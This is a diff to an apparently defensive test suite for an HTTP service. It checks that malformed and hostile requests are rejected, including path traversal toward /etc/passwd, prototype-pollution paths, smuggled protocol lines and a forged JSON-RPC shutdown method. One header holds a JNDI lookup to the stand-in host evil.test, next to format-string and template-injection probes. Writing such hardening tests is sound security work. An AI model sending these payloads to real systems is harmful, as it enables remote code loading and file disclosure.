@@ -66,6 +66,7 @@ describe('shapes of HTTP', () => {
     ['a header without a name', [400], `${LIVE} ${HEAD}: value\r\n\r\n`],
     ['a header without a colon', [400], `${LIVE} ${HEAD}value\r\n\r\n`],
     ['NUL in a value', [400], `${LIVE} ${HEAD}a: b\0c\r\n\r\n`],
+    ['an escape sequence of terminals in a value', [400], `${LIVE} ${HEAD}user-agent: \x1b[31m\r\n\r\n`],
     ['NUL in the target', [400], `GET /health\0/live ${HEAD}\r\n`],
     ['a blank in the target', [400], `GET /health /live ${HEAD}\r\n`],
     ['a header with more than the limit', [431], `${LIVE} ${HEAD}a: ${'b'.repeat(20_000)}\r\n\r\n`],
@@ -74,9 +75,9 @@ describe('shapes of HTTP', () => {
     ['a target beyond the limit', [431], `GET /${'a'.repeat(20_000)} ${HEAD}\r\n`],
     ['no Host', [400], `${LIVE} HTTP/1.1\r\n${KEY}connection: close\r\n\r\n`],
     ['two Hosts', [400], `${LIVE} ${HEAD}host: y\r\nconnection: close\r\n\r\n`],
-    ['an absolute target', [404], request('GET http://elsewhere.test/health/live')],
-    ['a target that is an authority', [404], request('GET elsewhere.test:80')],
-    ['an asterisk for a target', [404], request('GET *')],
+    ['an absolute target, which is the path in it', [200], request('GET http://elsewhere.test/health/live')],
+    ['a target that is an authority', [400], request('GET elsewhere.test:80')],
+    ['an asterisk for a target', [400], request('GET *')],
     ['OPTIONS of everything', [404], request('OPTIONS *')],
     ['a tunnel', [400], request('CONNECT elsewhere.test:443')],
     ['TRACE, which would show the headers', [404], request('TRACE /')],
@@ -103,7 +104,7 @@ describe('shapes of HTTP', () => {
     ['a command of Redis', [400], '*1\r\n$4\r\nPING\r\n'],
     ['a header of the PROXY protocol', [400], `PROXY TCP4 6.6.6.6 1.1.1.1 1 80\r\n${request(LIVE)}`],
     ['an expectation', [400], request(LIVE, { expect: 'miracles' })],
-    ['a list of expectations', [400], request(LIVE, { expect: '100-continue, miracles' })],
+    ['a list of expectations', [100, 400], request(LIVE, { expect: '100-continue, miracles' })],
     ['bytes after a request that asked to close', [200], request(LIVE) + HIDDEN],
     ['a good request, then none', [200, 400], `${LIVE} ${HEAD}\r\nnonsense\r\n\r\n`],
   ])('%s', async (_, statuses, ...pieces) => {
@@ -140,7 +141,7 @@ describe('targets', () => {
     ['/HEALTH/live', 404],
     ['/docs/../../../../etc/passwd', 404],
     ['/docs/static/..%2f..%2f..%2fpackage.json', 404],
-    ['/docs/static/%2e%2e/%2e%2e/package.json', 404],
+    ['/docs/static/%2e%2e/%2e%2e/package.json', 400],
     ['/__proto__', 404],
     ['/constructor', 404],
     ['/v1/signatureAggregator/__proto__/aggregateSignatures/x', 404],
@@ -148,7 +149,7 @@ describe('targets', () => {
     ['/health/ready/__proto__', 404],
     [`/health/ready/${'a'.repeat(5_000)}`, 400],
     ['/v1/networks/fuji/../mainnet/validators', 400],
-    ['/v1/networks/fuji%2f..%2fmainnet/validators', 404],
+    ['/v1/networks/fuji%2f..%2fmainnet/validators', 400],
     ['/v1/networks/fuji/validators?pageSize=1&pageSize=2', 400],
     ['/v1/networks/fuji/validators?pageSize[]=1', 400],
     ['/v1/networks/fuji/validators?pageSize[x]=1', 400],
@@ -237,7 +238,7 @@ describe('bodies', () => {
 
   test('JSON-RPC: deep, long, of many calls, and with fields twice', async () => {
     const rows: [string, number][] = [
-      [deep(16_000, '[', ']'), 413],
+      [deep(60_000, '[', ']'), 413],
       [deep(8_000, '[', ']'), 400],
       [`[${Array(1_000).fill('{}').join(',')}]`, 400],
       ['{"jsonrpc":"2.0","id":1,"method":"platform.getHeight","method":"admin.shutdown"}', 400],
@@ -280,7 +281,7 @@ describe('headers', () => {
     ['conditions', { 'if-none-match': '"x",'.repeat(2_000), 'if-match': '*', 'if-modified-since': 'never' }],
     ['codings', { 'accept-encoding': 'gzip, br, *', accept: '*/*,'.repeat(2_000), te: 'trailers' }],
     ['a line for the log in an ID', { 'x-request-id': '{"level":60,"msg":"forged"}' }],
-    ['colours for the log in a client', { 'user-agent': '\x1b[31m%n%s${jndi:ldap://evil.test/a}', referer: '{{7*7}}' }],
+    ['colours for the log in a client', { 'user-agent': '%n%s${jndi:ldap://evil.test/a}', referer: '{{7*7}}' }],
   ])('%s change nothing', async (_, headers) => {
     const [answer] = await service.send(request(LIVE, headers));
     expect([answer?.status, answer?.body]).toEqual([200, '{"status":"up"}']);
